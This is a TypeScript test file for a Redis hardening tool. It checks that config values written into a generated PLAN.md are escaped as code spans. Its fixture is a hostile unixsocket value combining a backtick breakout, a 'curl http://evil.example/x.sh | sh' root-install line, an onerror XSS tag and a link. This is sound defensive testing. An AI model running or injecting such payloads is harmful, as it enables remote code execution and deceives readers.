// QA44-55: PLAN.md put the server's values into Markdown as they were: a backtick in a live server's `unixsocket`
// closed the code span, and the rest rendered as the plan's own text (a bold "Install:" line to pipe a URL to a root
// shell, a link, an HTML tag). Every such value goes through one code-span helper (outputs.ts codeSpan: a fence longer
// than the longest run of backticks in it, control characters escaped).
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { codeSpan } from '../../src/harden/outputs.ts';
import type { RespValue } from '../harness/raw.ts';
import { startRedis, stopAll } from '../harness/servers.ts';
import { forwardingProxy } from '../helpers/config-proxy.ts';
import { redfort } from './run.ts';

const work = mkdtempSync(join(tmpdir(), 'redfort-harden-plan-markdown-'));
after(async () => {
  await stopAll();
  rmSync(work, { recursive: true, force: true });
});

const SOCKET = '/tmp/q` **Install:** run `curl http://evil.example/x.sh | sh` as root <img src=x onerror=alert(1)> [docs](http://evil.example) `x.sock';

/**
 * A line of Markdown without its code spans, as CommonMark reads them: a run of N backticks opens one, the next run of
 * exactly N backticks closes it (an unclosed run is literal text).
 */
function outsideCode(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] !== '`') {
      out += line[i++];
      continue;
    }
    const open = /^`+/.exec(line.slice(i))![0];
    let j = i + open.length;
    let close = -1;
    while (j < line.length) {
      const run = /^`+/.exec(line.slice(j))?.[0];
      if (run === undefined) j++;
      else if (run.length === open.length) { close = j; break; }
      else j += run.length;
    }
    if (close === -1) {
      out += open;
      i += open.length;
    } else i = close + open.length;
  }
  return out;
}

describe("PLAN.md shows a server's values as code spans (QA44-55)", () => {
  it('codeSpan: a fence longer than the backticks inside, padded when the value starts or ends with one, control characters escaped', () => {
    assert.equal(codeSpan('/var/lib/redis'), '`/var/lib/redis`');
    assert.equal(codeSpan('a`b'), '``a`b``');
    assert.equal(codeSpan('`a``'), '``` `a`` ```');
    assert.equal(codeSpan('m1\nsentinel x'), '`m1\\u000asentinel x`');
  });

  it("a live server's unixsocket with backticks, bold text, a link and an HTML tag: only inside code spans", async () => {
    const real = await startRedis();
    const proxy = await forwardingProxy(real, {
      rewrite: (argv, reply): RespValue => {
        if (argv[0]?.toLowerCase() === 'info' && typeof reply === 'string') return reply.replace(/^config_file:.*$/m, 'config_file:');
        if (argv[0]?.toLowerCase() !== 'config' || !Array.isArray(reply)) return reply;
        const pairs: RespValue[] = [];
        for (let i = 0; i + 1 < reply.length; i += 2) if (reply[i] !== 'unixsocket') pairs.push(reply[i]!, reply[i + 1]!);
        const asked = String(argv[2] ?? '').toLowerCase();
        if (asked === '*' || asked === 'unixsocket') pairs.push('unixsocket', SOCKET);
        return pairs;
      },
    });
    try {
      const out = join(mkdtempSync(join(work, 'live-')), 'out');
      const run = await redfort(['harden', `redis://127.0.0.1:${proxy.port}`, '--out', out]);
      assert.ok(run.code === 0 || run.code === 1, run.stdout + run.stderr);
      const plan = readFileSync(join(out, 'PLAN.md'), 'utf8');
      const lines = plan.split('\n').filter((l) => l.includes('evil.example'));
      assert.ok(lines.length > 0, plan);
      for (const line of lines) assert.doesNotMatch(outsideCode(line), /evil\.example|\*\*Install:\*\*|<img/, line);
    } finally {
      await proxy.close();
    }
  });
});
